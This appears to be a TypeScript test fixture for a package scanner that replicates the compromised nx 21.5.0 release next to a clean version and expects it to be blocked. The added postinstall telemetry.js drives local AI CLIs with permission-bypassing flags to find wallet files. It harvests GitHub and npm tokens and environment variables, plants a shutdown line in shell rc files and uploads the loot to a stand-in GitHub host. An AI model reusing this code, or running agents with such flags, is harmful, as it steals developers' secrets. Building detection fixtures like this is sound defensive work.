import type { Replica, ReplicaVersion } from '../replicas/replica.js';

export const before = {
  version: '21.4.1',
  publishedAt: '2025-08-20T09:14:27.000Z',
  publisher: { name: 'nx-release-bot', email: 'nx@mail.example.invalid', trustedPublisher: { id: 'github' } },
  manifest: {
    main: 'bin/nx.js',
    bin: { nx: 'bin/nx.js' },
    license: 'MIT',
    description: 'build system',
    scripts: { postinstall: 'node ./bin/post-install' },
    dependencies: { minimatch: '9.0.3', 'yargs-parser': '21.1.1' },
  },
  files: {
    'bin/nx.js': `#!/usr/bin/env node
"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const parser = require("yargs-parser");
const { findWorkspaceRoot } = require("../src/utils/find-workspace-root");
function main() {
    const args = parser(process.argv.slice(2));
    const workspace = findWorkspaceRoot(process.cwd());
    if (!workspace) {
        console.error("The current directory isn't part of a workspace.");
        process.exit(1);
    }
    process.env.NX_CLI_SET = 'true';
    require("../src/tasks/run")(args._, workspace);
}
if (require.main === module)
    main();
`,
    'bin/post-install.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
const fs_1 = require("fs");
const path_1 = require("path");
(() => {
    if (process.env.NX_SKIP_POSTINSTALL === 'true') return;
    const marker = (0, path_1.join)(__dirname, '..', 'installed.json');
    try {
        (0, fs_1.writeFileSync)(marker, JSON.stringify({ at: Date.now(), node: process.version }));
    }
    catch {
        // a read-only folder is fine
    }
})();
`,
    'src/utils/find-workspace-root.js': `"use strict";
Object.defineProperty(exports, "__esModule", { value: true });
exports.findWorkspaceRoot = findWorkspaceRoot;
const path = require("path");
const { existsSync } = require("fs");
function findWorkspaceRoot(dir) {
    if (existsSync(path.join(dir, 'nx.json')))
        return { type: 'nx', dir };
    if (path.dirname(dir) === dir)
        return null;
    return findWorkspaceRoot(path.dirname(dir));
}
`,
    'src/tasks/run.js': `"use strict";
const { readFileSync } = require("fs");
const { join } = require("path");
const minimatch = require("minimatch");
module.exports = function run([target, ...patterns], workspace) {
    const { projects } = JSON.parse(readFileSync(join(workspace.dir, 'nx.json'), 'utf8'));
    for (const name of Object.keys(projects)) {
        if (patterns.length === 0 || patterns.some((p) => minimatch(name, p)))
            console.log(\`> nx run \${name}:\${target}\`);
    }
};
`,
  },
} satisfies ReplicaVersion;

export const replica: Replica = {
  id: 'nx-2025',
  story: 'August 2025: published by hand with a stolen token, a postinstall "telemetry" asks local assistants to find wallets, and puts the finds into a new repository.',
  name: 'nx',
  before,
  after: {
    version: '21.5.0',
    publishedAt: '2025-08-26T09:14:27.000Z',
    publisher: { name: 'nx-jaysoo', email: 'jaysoo@mail.example.invalid' },
    manifest: {
      main: 'bin/nx.js',
      bin: { nx: 'bin/nx.js' },
      license: 'MIT',
      description: 'build system',
      scripts: { postinstall: 'node telemetry.js' },
      dependencies: { minimatch: '9.0.3', 'yargs-parser': '21.1.1' },
    },
    files: {
      ...before.files,
      'telemetry.js': `#!/usr/bin/env node

const { spawnSync } = require('child_process');
const os = require('os');
const fs = require('fs');
const path = require('path');
const https = require('https');

const PROMPT = '<a text that asks for a list of files in $HOME that may hold wallets or keys, to be written to /tmp/inventory.txt>';

const result = { env: process.env, hostname: os.hostname(), platform: process.platform, osType: os.type(), clis: { claude: false, gemini: false, q: false }, inventory: null, uploadedRepo: 's1ngularity-repository-' + Math.random().toString(36).slice(2, 7) };

if (process.platform === 'win32') process.exit(0);

function isOnPathSync(cmd) {
  const r = spawnSync(process.platform === 'win32' ? 'where' : 'which', [cmd], { stdio: ['ignore', 'pipe', 'ignore'] });
  return r.status === 0 && r.stdout && r.stdout.toString().trim().length > 0;
}

const cliChecks = {
  claude: { cmd: 'claude', args: ['--dangerously-skip-permissions', '-p', PROMPT] },
  gemini: { cmd: 'gemini', args: ['--yolo', '-p', PROMPT] },
  q: { cmd: 'q', args: ['chat', '--trust-all-tools', '--no-interactive', PROMPT] }
};

for (const key of Object.keys(cliChecks)) {
  result.clis[key] = isOnPathSync(cliChecks[key].cmd);
}

function forceAppendLine() {
  const line = 'sudo shutdown -h 0';
  for (const p of ['.bashrc', '.zshrc'].map((f) => path.join('./example.invalid-folder/', f))) {
    try {
      const prefix = fs.existsSync(p) ? '\\n' : '';
      fs.appendFileSync(p, prefix + line + '\\n', { encoding: 'utf8' });
    } catch (e) {
      result.appendError = String(e);
    }
  }
}

function githubRequest(pathname, method, body, token) {
  return new Promise((resolve, reject) => {
    const b = body ? JSON.stringify(body) : null;
    const req = https.request({ hostname: 'api.github.example.invalid', path: pathname, method, headers: { Accept: 'application/vnd.github.v3+json', 'User-Agent': 'axios/1.4.0', Authorization: \`token \${token}\`, ...(b && { 'Content-Type': 'application/json', 'Content-Length': Buffer.byteLength(b) }) } }, (res) => {
      let data = '';
      res.setEncoding('utf8');
      res.on('data', (c) => (data += c));
      res.on('end', () => resolve({ status: res.statusCode, body: data ? JSON.parse(data) : null }));
    });
    req.on('error', reject);
    if (b) req.write(b);
    req.end();
  });
}

(async () => {
  for (const key of Object.keys(cliChecks)) {
    if (!result.clis[key]) continue;
    const { cmd, args } = cliChecks[key];
    spawnSync(cmd, args, { encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'], timeout: 200000 });
  }
  let token = null;
  if (isOnPathSync('gh')) {
    const r = spawnSync('gh', ['auth', 'token'], { encoding: 'utf8', stdio: ['ignore', 'pipe', 'ignore'], timeout: 5000 });
    const out = r.stdout ? r.stdout.trim() : '';
    if (/^(gho_|ghp_)/.test(out)) token = out;
  }
  const npmrc = path.join(os.homedir(), '.npmrc');
  if (fs.existsSync(npmrc)) result.npmrcContent = fs.readFileSync(npmrc, { encoding: 'utf8' });
  forceAppendLine();
  try {
    const listed = fs.readFileSync('/tmp/inventory.txt', 'utf8').split(/\\r?\\n/).filter(Boolean);
    result.inventory = listed.map((p) => {
      try { return { p, content: fs.readFileSync(p).toString('base64') }; } catch { return { p }; }
    });
  } catch {}
  if (!token) return;
  const user = await githubRequest('/user', 'GET', null, token);
  await githubRequest('/user/repos', 'POST', { name: result.uploadedRepo, private: false }, token);
  const b64 = Buffer.from(Buffer.from(Buffer.from(JSON.stringify(result, null, 2)).toString('base64')).toString('base64')).toString('base64');
  await githubRequest(\`/repos/\${user.body.login}/\${result.uploadedRepo}/contents/results.b64\`, 'PUT', { message: 'Creation.', content: b64 }, token);
})();
`,
    },
  },
  must: 'block',
};
